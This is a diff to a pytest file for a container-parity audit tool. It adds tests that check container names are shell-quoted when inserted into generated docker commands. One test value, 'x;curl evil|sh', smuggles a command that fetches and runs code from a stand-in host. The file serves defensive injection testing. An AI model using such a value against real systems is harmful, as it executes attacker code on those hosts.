@@ -9,6 +9,9 @@ from typing import Any
 import pytest
 from stacks import FOLDER, KNOWN, audited, stack
 
+from parity.model import Difference, Severity
+from parity.rules import Rule
+
 AREAS = ("containers", "environment", "compose")
 Services = dict[str, dict[str, Any]]
 UNFILLED = re.compile(r"(?<![{$])\{[a-z_]+\}(?!\})")
@@ -616,3 +619,26 @@ def test_what_is_only_declared_is_compared_with_what_runs() -> None:
 
 def test_an_environment_with_nothing_in_it_is_no_crash() -> None:
     assert audited(stack("dev", {}), stack("prod", **GOOD)) == {}
+
+
+def test_a_name_is_one_word_of_a_command_that_people_copy() -> None:
+    known = {"id": "x", "production": Severity.LOW, "elsewhere": Severity.LOW, "cause": "", "impact": "", "action": ""}
+    rule = Rule(
+        **known, title="{container}", command="docker inspect --format '{{json .State}}' {container}:{path} {n}"
+    )
+
+    def said(part: str, container: str) -> str:
+        words = {"container": container, "path": "/data"}
+        return rule.sentence(part, Difference("x", ("prod",), "api", "", (), words))
+
+    assert said("command", "app-api_1.2") == "docker inspect --format '{{json .State}}' app-api_1.2:/data {n}"
+    assert said("command", "x;curl evil|sh") == "docker inspect --format '{{json .State}}' 'x;curl evil|sh':/data {n}"
+    assert said("title", "x;curl evil|sh") == "x;curl evil|sh"
+
+
+@pytest.mark.parametrize(
+    "rule", [rule for rule in KNOWN.rules.values() if "{" in rule.command], ids=lambda rule: rule.id
+)
+def test_no_field_of_a_command_stands_in_quotes_of_its_own(rule):
+    bare = re.sub(r"'[^']*'|\"[^\"]*\"", "", rule.command)
+    assert UNFILLED.findall(bare) == UNFILLED.findall(rule.command)
